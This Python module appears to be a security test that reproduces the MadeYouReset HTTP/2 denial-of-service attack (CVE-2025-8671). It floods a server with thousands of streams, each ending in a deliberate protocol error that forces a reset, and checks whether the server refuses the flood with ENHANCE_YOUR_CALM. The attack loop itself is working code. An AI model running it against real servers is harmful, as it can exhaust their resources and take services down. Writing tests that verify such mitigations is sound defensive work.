"""MadeYouReset (CVE-2025-8671): the attacker begins each call, then makes a protocol error for
which the server must reset the stream. So the server itself cancels the calls.
"""

import struct

import http2
from attacker import ENHANCE_YOUR_CALM, error_of, frame, receive_until_end, send

CALLS = 10_000
MISTAKES = {
    "window overflow": lambda stream: frame(
        http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 2**31 - 1)),
    "a second head": lambda stream: frame(
        http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
        http2.literal(b":path", b"/again")),
}


def attack(attacker):
    while not attacker.over():
        for name, mistake in MISTAKES.items():
            connection = attacker.http2()
            send(connection, b"".join(
                frame(http2.HEADERS, http2.END_HEADERS, stream, attacker.head()) + mistake(stream)
                for stream in range(1, 2 * CALLS, 2)))
            if error_of(receive_until_end(connection)) != ENHANCE_YOUR_CALM:
                return [f"{CALLS} calls that the server must reset ({name}) are not refused"]
